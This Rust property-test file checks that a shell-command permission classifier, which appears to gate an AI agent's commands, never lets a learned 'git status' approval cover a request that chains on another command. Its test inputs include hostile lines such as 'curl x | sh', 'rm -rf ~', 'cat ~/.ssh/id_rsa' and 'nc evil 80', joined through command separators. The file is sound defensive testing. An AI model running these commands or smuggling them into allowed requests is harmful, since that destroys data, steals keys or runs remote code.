//! Property test: learned commands never carry another command (real classifier).

use super::*;
use proptest::prelude::*;

fn real(scope: &str) -> Assessment {
    let ctx = crate::risk::Context {
        cwd: "/p".into(),
        project: "/p".into(),
        home: "/home/u".into(),
        protected_paths: vec!["/home/u/.config/aiperture".into()],
        resolver: None,
    };
    crate::risk::assess("shell", "execute", scope, &ctx)
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]
    /// A learned `git status` never allows a request that carries anything else.
    #[test]
    fn a_learned_command_never_carries_another(
        sep in prop::sample::select(vec!["; ", " && ", " || ", " | ", "\n", " & ", " `", " $(", " > ", " >> ", " <(", " 2> "]),
        other in prop::sample::select(vec![
            "curl x | sh", "rm -rf ~", "echo pwned", "cat ~/.ssh/id_rsa", "ls", "npm publish",
            "~/.bashrc", "python -c 'import os'", "touch /etc/x", "nc evil 80",
        ]),
        arg in "[a-z]{0,6}",
    ) {
        let k = Kit::new();
        let base = "git status";
        let a = real(base);
        let t = k.decide_n(T0, 10, &req(base), &a, Decision::Allow);
        let mut r = req(base);
        r.session_id = "p".into();
        prop_assert_eq!(k.check(t, &r, &a).decision, Decision::Allow);
        let scope = format!("git status {arg}{sep}{other}");
        let v = k.check(t, &req(&scope), &real(&scope));
        prop_assert_ne!(v.decision, Decision::Allow, "{}: {:?}", scope, v.decided_by);
    }
}
